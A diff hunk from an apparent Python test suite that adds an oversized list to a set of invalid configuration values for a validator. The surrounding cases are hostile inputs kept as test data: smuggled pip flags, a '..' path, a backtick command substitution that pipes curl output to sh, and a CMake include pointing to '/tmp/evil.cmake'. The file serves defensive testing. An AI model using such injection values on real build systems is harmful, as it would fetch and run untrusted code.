@@ -427,6 +427,7 @@ def handed(path: Path, good: dict[str, Any], **changes: Any) -> Path:
         ("torchvision", "0.1 --pre"),
         ("torchaudio", "-r x"),
         ("variant", "cu126 --pre"),
+        ("wish", {"needs": ["bf16"] * 1000}),
         ("variant", ".."),
         ("wheel", "`curl http://127.0.0.1:9 | sh`"),
         ("options", {"CMAKE_PROJECT_INCLUDE": "/tmp/evil.cmake"}),
